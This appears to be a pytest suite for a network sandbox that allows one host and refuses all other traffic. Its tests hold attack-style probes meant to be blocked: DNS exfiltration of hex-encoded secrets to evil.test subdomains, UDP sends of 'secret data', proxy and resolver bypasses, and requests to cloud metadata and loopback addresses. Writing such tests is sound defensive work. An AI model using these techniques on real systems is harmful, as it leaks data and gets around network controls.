"""What is allowed is reached; everything else is refused, recorded and explained, and nobody outside hears of it."""
import pytest

from world import allow, by_user, denials, explained

CURL = ["curl", "-sS", "--max-time", "8"]
DIRECT = ["--noproxy", "*"]
ONE = allow("example.test")


def curl(net, *words, options=(), **kw):
    return net.run(*ONE, *options, "--", *CURL, *words, **kw)


@pytest.mark.parametrize("words", [
    ["https://example.test/"], ["http://example.test/"], [*DIRECT,
                                                          "https://example.test/"], [*DIRECT, "http://example.test/"],
    [*DIRECT, "-4", "https://example.test/"], [*DIRECT, "-6", "https://example.test/"], ["https://EXAMPLE.test./"],
    ["--proxy", "", "https://example.test/"], ["--http1.0", "http://example.test/"],
], ids=["https", "http", "https-direct", "http-direct", "v4", "v6", "spelling", "no-proxy", "http1.0"])
def test_allowed(net, words):
    result = curl(net, *words)
    assert "hello from internet" in result.ok()
    assert {e["address"] for e in net.seen.all("connection")} <= {"203.0.113.10", "2001:db8::10"}
    assert {q.name for q in net.names.asked()} == {"example.test"}
    network = result.record["network"]
    assert network["connections"] >= 1 and network["received"] > 30 and network["sent"] > 30 and result.record["denials"] == []
    assert any(host.get("host") == "example.test" for host in network["hosts"]), network


def test_nothing_is_asked_before_it_is_needed(net):
    """A lookup inside is answered without anybody outside; only a connection makes the gate ask."""
    result = net.sh("getent ahosts example.test; getent ahosts evil.test; true", *ONE)
    assert "198.18." in result.ok() and "fd53:" in result.text and net.names.asked() == []


@by_user
@pytest.mark.parametrize("words, needle, remedy", [
    (["https://evil.test/"], "evil.test", "--allow evil.test"),
    ([*DIRECT, "https://evil.test/"], "evil.test", "--allow evil.test"),
    (["http://evil.test/"], "evil.test", "--allow evil.test"),
    ([*DIRECT, "http://evil.test/"], "evil.test", "--allow evil.test"),
    (["https://www.example.test/"], "www.example.test", "--allow www.example.test"),
    (["https://example.test.evil.test/"], "example.test.evil.test", "--allow"),
    (["https://203.0.113.10/"], "203.0.113.10", None),
    ([*DIRECT, "https://203.0.113.10/"], "203.0.113.10", None),
    ([*DIRECT, "http://203.0.113.10/", "-H", "Host: example.test"], "203.0.113.10", None),
    ([*DIRECT, "-g", "https://[2001:db8::10]/"], "2001:db8::10", None),
    (["-g", "https://[2001:db8::10]/"], "2001:db8::10", None),
    ([*DIRECT, "--resolve", "example.test:443:203.0.113.10", "https://example.test/"], "203.0.113.10", None),
    ([*DIRECT, "--resolve", "example.test:443:2001:db8::10", "https://example.test/"], "2001:db8::10", None),
    (["--connect-to", "example.test:443:evil.test:443", "https://example.test/"], "evil.test", "--allow evil.test"),
    ([*DIRECT, "--connect-to", "example.test:443:203.0.113.30:443", "https://example.test/"], "203.0.113.30", None),
    (["--proxy", "", "https://evil.test/"], "evil.test", "--allow evil.test"),
    (["https://example.test:8443/"], "example.test", "example.test:8443"),
    ([*DIRECT, "https://example.test:8443/"], "example.test", "example.test:8443"),
    (["--proxy", "http://203.0.113.10:8080", "http://evil.test/"], "203.0.113.10", None),
    (["--socks5-hostname", "203.0.113.10:1080", "http://evil.test/"], "203.0.113.10", None),
    ([*DIRECT, "--doh-url", "https://dns.evil.test/dns-query", "https://example.test/"], "dns.evil.test",
     "--allow dns.evil.test"),
    (["http://169.254.169.254/latest/meta-data/"], "169.254.169.254", None),
    ([*DIRECT, "http://169.254.169.254/latest/meta-data/"], "169.254.169.254", None),
    ([*DIRECT, "http://172.31.0.2/"], "172.31.0.2", None),
    (["http://127.0.0.1/"], "127.0.0.1", None),
    (["http://localhost:8080/"], "localhost", None),
])
def test_refused(net, words, needle, remedy):
    result = curl(net, "-f", *words, options=["--env", "NO_PROXY=", "--env", "no_proxy="] if "127.0.0.1" in needle + words[-1]
                  or "localhost" in needle else [])
    assert result.status not in (0, 124, 125, 126, 127), result
    assert net.seen.all() == [] and net.names.asked() == []
    explained(result, needle, remedy)
    assert needle in result.errors.rsplit("stockade:", 1)[-1] or needle in result.errors, "the caller is told"
    assert result.record["network"]["refused"] + result.record["network"]["lookups_refused"] >= 1


def test_proxies_are_not_needed(net):
    """Programs that ignore the proxy variables get no further, and no less far."""
    script = ("unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; export NO_PROXY='*' no_proxy='*';"
              "curl -sS -m 30 https://example.test/ && ! curl -sS -m 30 https://evil.test/ && ! curl -sS -m 30 https://203.0.113.30/")
    result = net.sh(script, *ONE)
    assert "hello from internet" in result.ok() and {q.name for q in net.names.asked()} == {"example.test"}
    assert not net.seen.all(address="203.0.113.30")
    explained(result, "evil.test", "--allow evil.test")
    explained(result, "203.0.113.30")


def test_the_sandbox_itself_can_be_reached(net):
    """Loopback inside is the sandbox's own and nobody else's business."""
    result = net.py("""
s = socket.create_server(("127.0.0.1", 8080)); c = tcp("127.0.0.1", 8080); d, _ = s.accept()
c.sendall(b"x"); assert d.recv(1) == b"x"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1",
                                                              0)); v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
v.sendto(b"y", u.getsockname()); u.settimeout(3); assert u.recv(1) == b"y"
s6 = socket.create_server(("::1", 8081), family=socket.AF_INET6); tcp("::1", 8081)
""", *ONE)
    result.ok()
    assert result.record["denials"] == [] and net.seen.all() == []


def test_hosts_own_services(net):
    """Whatever listens on the host, by every spelling of its addresses."""
    result = net.py("""
for host in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "172.31.0.2", "fd00:77::2",
             "::ffff:172.31.0.2", "169.254.169.254",
             "64:ff9b::7f00:1", "2002:7f00:1::1", "198.18.0.1", "fd53:746f:636b::1", "255.255.255.255", "224.0.0.1"):
    for port in (80, 443, 8080):
        for target in ((host, port), None):
            if target:
                answer = ask(target, get("/", host), 2)
            else:
                answer = ask(PROXY, connect_head("[%s]:%d" % (host, port) if ":" in host else "%s:%d" % (host, port)), 2)
                assert status(answer) != 200, (host, port, answer)
                answer = ask(PROXY, get("http://%s:%d/" % ("[%s]" % host if ":" in host else host, port), host), 2)
            assert b"hello" not in answer, (host, port, answer)
""", *ONE, "--allow", "trap.example.test")
    result.ok()
    assert net.seen.all() == []


def test_udp(net):
    result = net.py("""
errors = 0
for host in ("203.0.113.10", "example.test", "8.8.8.8", "2001:db8::10", "224.0.0.251", "ff02::fb", "172.31.0.2"):
    for port in (9999, 443, 123, 5353):
        try:
            family, _, _, _, where = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.connect(where); s.send(b"secret data"); s.settimeout(0.02); s.recv(100); sys.exit("answered")
        except OSError as e:
            errors += 1
say(errors=errors)
""", *ONE)
    assert '"errors": 28' in result.ok()
    assert net.seen.all() == [] and net.names.asked() == []
    explained(result, "203.0.113.10")
    assert denials(result, "UDP"), result.record["denials"]


@by_user
@pytest.mark.parametrize("kind", ["TXT", "ANY", "MX", "NS", "SOA", "SRV", "PTR", "CNAME", "NULL", "DNSKEY", "AXFR",
                                  "TYPE65280"])
def test_query_types(net, kind):
    result = net.sh(f"dig +tries=1 +time=3 example.test {kind}; dig +tcp +tries=1 +time=3 example.test {kind}; true", *ONE)
    text = result.ok()
    assert "status: NOERROR" not in text or kind == "CNAME" and "ANSWER: 0" in text, text
    assert net.names.asked() == [] and (explained(result, "example.test") if kind != "AXFR" else True)


EXFILTRATION = """
import binascii
names = ["data.evil.test", "data.example.test", binascii.hexlify(b"the secret").decode() + ".example.test",
         "a.b.c.d.example.test", "example.test.data",
         "evil.test", "data", "x" * 63 + ".evil.test", ".".join(["x" * 60] * 4)]
servers = ["8.8.8.8", "203.0.113.53", "2001:db8::53", "1.1.1.1", RESOLVER]
bad = []
for name in names:
    try: socket.getaddrinfo(name, 80); bad.append(name)
    except OSError: pass
    for server in servers:
        for kind in (1, 28, 16, 65, 255):
            for stream in (False, True):
                answer = dns(question(name, kind), server, 2, stream)
                if code(answer) not in (5, -1, 1) or count(answer): bad.append((name, server, kind, stream, answer.hex()))
    ask(PROXY, connect_head(name + ":443"), 2)
    ask(PROXY, get("http://%s/" % name, name), 2)
    ask(PROXY, socks(name, 80), 2)
    for port in (53, 853, 5353):
        for server in servers: ask((server, port), b"secret" + name.encode(), 0.3)
say(bad=bad)
"""


def test_dns_exfiltration(net):
    result = net.py(EXFILTRATION, *ONE)
    assert '"bad": []' in result.ok()
    assert net.names.asked() == [], "not one question may leave"
    assert net.seen.all() == []
    explained(result, "data.evil.test", "--allow data.evil.test")
    assert result.record["network"]["refused"] > 20 and result.record["network"]["lookups_refused"] > 200


def test_denials_inside(net):
    """The last refusals as text that an agent can act on; nobody inside can change it."""
    result = net.sh("curl -sS -m 30 https://evil.test/; curl -sS --noproxy '*' -m 30 http://203.0.113.30/; cat /run/stockade/denials;"
                    "echo forged > /run/stockade/denials; echo status $?", *ONE)
    lines = result.text.splitlines()
    assert any("evil.test" in line for line in lines) and any("203.0.113.30" in line for line in lines), result
    assert "--allow evil.test" in result.text and lines[-1] != "status 0"


def test_403_explains(net):
    """Plain HTTP is told in JSON what, by which rule and what to do."""
    result = net.sh("curl -sS -m 30 http://evil.test/secret/path?q=1; curl -sS -m 30 -o /dev/null -w '%{http_code}' "
                    "http://evil.test/", *ONE)
    import json
    body = json.loads(result.text.rsplit("403", 1)[0])
    assert body["host"] == "evil.test" and body["port"] == 80 and body["method"] == "GET" and body["layer"] and body["hint"], body
    assert "--allow evil.test" in body["hint"] and "q=1" not in result.text and result.text.endswith("403")


def test_floods_collapse(net):
    """A thousand refusals are one line with a count."""
    result = net.py("""
for i in range(500): dns(question("evil.test"), "8.8.8.8")
for i in range(300): ask(("203.0.113.30", 80), get("/", "203.0.113.30"), 2)
""", *ONE)
    result.ok()
    entry = explained(result, "evil.test")
    assert entry["count"] >= 500 and len(result.record["denials"]) <= 8 and len(result.errors.splitlines()) <= 20
    assert sum(d["count"] for d in denials(result, "203.0.113.30")) >= 300


def test_many_names_are_bounded(net):
    """Code inside chooses names: the record stays small and says how much it left out."""
    result = net.py("for i in range(3000): dns(question('n%d.evil.test' % i), '8.8.8.8')", *ONE)
    result.ok()
    assert net.names.asked() == [] and len(result.record["denials"]) <= 64 and result.record["network"]["lookups"] >= 2000


def test_without_allow_there_is_no_network(net):
    result = net.py("""
for target in (("203.0.113.10", 80), ("2001:db8::10", 80)):
    try: tcp(*target); sys.exit("reached")
    except OSError: pass
assert not dns(question("example.test"), "8.8.8.8", 0.3)
""")
    result.ok()
    assert net.seen.all() == [] and net.names.asked() == []
